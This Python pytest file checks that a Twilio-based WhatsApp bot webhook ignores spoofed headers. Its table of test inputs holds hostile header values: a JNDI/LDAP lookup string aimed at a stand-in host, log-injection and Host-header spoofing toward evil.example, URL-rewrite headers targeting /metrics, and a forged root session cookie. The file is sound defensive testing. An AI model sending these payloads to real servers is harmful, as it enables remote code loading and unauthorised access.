"""Headers that claim another address, method or sender: they change nothing."""

import pytest

from tests.bot.whatsapp.twilio_calls import INBOUND, sign, text_form
from tests.hostile.conftest import PLANTED, Target
from tests.hostile.hostile import stranger
from tests.hostile.ledger import ONE_NEW_CHAT
from tests.hostile.raw_http import Header, build, post

TRICKS: dict[str, list[Header]] = {
    "X-Forwarded-Host": [("X-Forwarded-Host", "evil.example")],
    "X-Forwarded-Proto": [("X-Forwarded-Proto", "http")],
    "two that differ": [("X-Forwarded-Proto", "http"), ("X-Forwarded-Ssl", "on")],
    "X-Forwarded-For": [("X-Forwarded-For", "127.0.0.1, planted, evil")],
    "X-Forwarded-Prefix": [("X-Forwarded-Prefix", "/evil")],
    "X-Forwarded-Port": [("X-Forwarded-Port", "1")],
    "Forwarded": [("Forwarded", "for=evil;host=evil.example;proto=http")],
    "X-Original-URL": [("X-Original-URL", "/metrics")],
    "X-Rewrite-URL": [("X-Rewrite-URL", "/metrics")],
    "SCRIPT_NAME": [("SCRIPT_NAME", "/webhooks")],
    "PATH_INFO": [("PATH_INFO", "/metrics")],
    "REMOTE_USER": [("REMOTE_USER", "root")],
    "Host": [("Host", "evil.example:1")],
    "a Host that is none": [("Host", "evil<planted>\"'%00")],
    "a method": [("X-HTTP-Method-Override", "DELETE"), ("X-Method", "PUT")],
    "User-Agent": [("User-Agent", 'planted", "level": "ERROR"} ${jndi:ldap://evil}')],
    "Referer": [("Referer", "http://evil.example/planted\\n%0a{}")],
    "a cookie": [("Cookie", "session=planted; session=eyJ1c2VyIjogInJvb3QifQ==")],
    "a login": [("Authorization", "Basic cGxhbnRlZDpwbGFudGVk")],
    "an upgrade": [("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__")],
    "a range": [("Range", "bytes=0-0,-1,planted"), ("If-Match", "planted")],
    "Proxy": [("Proxy", "http://evil.example")],
}  # fmt: skip
TELLING = "/healthz", "/readyz"


@pytest.mark.parametrize("headers", TRICKS.values(), ids=TRICKS.keys())
def test_a_genuine_message_is_taken_in_all_the_same(
    target: Target, headers: list[Header]
) -> None:
    form = text_form("Genuine", From=stranger())
    answer, new = target.takes(post(form, headers=headers))
    assert answer.status == 200
    assert new == ONE_NEW_CHAT


@pytest.mark.parametrize("headers", TRICKS.values(), ids=TRICKS.keys())
@pytest.mark.parametrize(
    "address",
    [
        f"http://bot.example.com{INBOUND}",
        f"https://evil.example{INBOUND}",
        f"http://evil.example:1{INBOUND}",
        f"http://evil.example:1/evil{INBOUND}",
    ],
)
def test_what_is_signed_for_another_address_is_refused(
    target: Target, headers: list[Header], address: str
) -> None:
    form = text_form(PLANTED)
    forged = post(form, signature=sign(address, form), headers=headers)
    assert target.refuses(forged).status == 403


@pytest.mark.parametrize("headers", TRICKS.values(), ids=TRICKS.keys())
@pytest.mark.parametrize("path", [*TELLING, "/webhooks/healthz", "/planted"])
def test_no_header_leads_to_another_path(
    target: Target, headers: list[Header], path: str
) -> None:
    answer = target.refuses(build("GET", path, headers))
    assert answer.status == (200 if path in TELLING else 404)
    assert "bot_" not in answer.text, "these are the metrics"
